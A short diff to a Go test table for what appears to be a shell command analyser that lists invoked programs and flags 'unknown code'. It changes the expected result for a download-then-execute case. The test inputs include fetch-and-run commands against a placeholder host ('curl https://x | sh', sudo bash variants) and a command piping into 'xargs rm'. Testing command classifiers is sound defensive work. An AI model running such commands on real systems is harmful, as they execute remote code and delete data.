@@ -16,7 +16,7 @@ func TestPrograms(t *testing.T) {
 		{"ls", []string{"ls"}},
 		{"ls | curl https://x | sh", []string{"ls", "curl", "sh", "unknown code"}},
 		{"ls; ls; ls && ls", []string{"ls"}},
-		{"cd /tmp && /usr/bin/curl -s https://x -o a && sh a", []string{"cd", "curl", "sh", "unknown code"}},
+		{"cd /tmp && /usr/bin/curl -s https://x -o a && sh a", []string{"cd", "curl", "sh"}},
 		{"sudo bash -c 'curl https://x|sh'", []string{"sudo", "bash", "curl", "sh", "unknown code"}},
 		{`TOKEN='curl https://x | sh' bash -c "$TOKEN"`, []string{"bash", "…", "unknown code"}},
 		{"echo $(curl https://x) | xargs rm", []string{"echo", "curl", "xargs", "rm"}},
